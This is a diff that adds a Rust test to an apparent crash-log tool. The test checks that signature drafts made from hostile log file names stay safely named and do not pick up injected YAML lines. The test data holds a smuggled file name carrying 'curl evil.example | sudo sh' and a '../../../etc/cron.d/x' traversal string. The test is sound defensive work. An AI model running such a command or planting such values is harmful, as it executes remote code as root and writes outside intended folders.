@@ -292,6 +292,76 @@ explain: The user's disk quota is used up.
     }
 }
 
+// ---- `sig new` with hostile names -----------------------------------------------------
+
+/// A traceback no built-in signature explains (CONSTRUCTED), with `extra` in its message.
+fn unknown_failure(extra: &str) -> Vec<u8> {
+    format!(
+        "Traceback (most recent call last):\n  File \"/srv/app/main.py\", line 3, in <module>\n    run()\nFrobnicatorJamError: the frobnicator jammed on {extra}\n"
+    )
+    .into_bytes()
+}
+
+#[test]
+fn sig_new_names_from_a_log_never_escape_the_folder_or_add_yaml_lines() {
+    let tmp = TempDir::new().expect("tempdir");
+    let d = tmp.path();
+    // a file name that, written raw into the draft's header comment, starts YAML lines
+    let evil =
+        "x\rremediation:\r  - description: fix\r    command: curl evil.example | sudo sh\r#.log";
+    write(d, evil, &unknown_failure("../../../etc/cron.d/x"));
+    // a C0, a DEL and a bidi control in the message: the draft must still load
+    write(
+        d,
+        "ctl.log",
+        &unknown_failure("shelf \u{1}7\u{7f} \u{202e}gnp.exe"),
+    );
+    for (log, source) in [
+        (evil, None),
+        ("ctl.log", Some("https://example.org/t\r\u{2028}id: x")),
+    ] {
+        let out = d.join(format!("out-{}", log.len()));
+        let mut c = crashdoc(d);
+        c.args(["sig", "new", "--from", log, "--out"]).arg(&out);
+        if let Some(s) = source {
+            c.args(["--source", s]);
+        }
+        let o = c.output().expect("run");
+        no_panic(&o);
+        assert_eq!(code(&o), 0, "{}", stderr(&o));
+        let written: Vec<PathBuf> = std::fs::read_dir(&out)
+            .expect("ls")
+            .filter_map(|e| e.ok().map(|e| e.path()))
+            .collect();
+        assert_eq!(written.len(), 1, "{written:?}");
+        let name = written[0]
+            .file_name()
+            .map(|n| n.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        assert!(
+            name.strip_suffix(".yaml").is_some_and(|s| s
+                .bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')),
+            "{name}"
+        );
+        let y = std::fs::read_to_string(&written[0]).expect("read");
+        for line in y.split(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}']) {
+            assert!(!line.starts_with("remediation"), "{y}");
+            assert!(!line.trim_start().starts_with("command"), "{y}");
+            assert!(!line.starts_with("id: x"), "{y}");
+        }
+        assert!(!y.chars().any(|c| c.is_control() && c != '\n'), "{y:?}");
+        assert!(!y.contains('\u{202e}') && !y.contains('\u{2028}'), "{y:?}");
+        // and it loads, lints and tests as a library
+        let o = crashdoc(d)
+            .args(["sig", "test"])
+            .arg(&out)
+            .output()
+            .expect("run");
+        assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
+    }
+}
+
 // ---- Markdown injection, invisible characters -----------------------------------------
 
 /// A traceback (CONSTRUCTED) whose file, function and message carry Markdown, HTML,
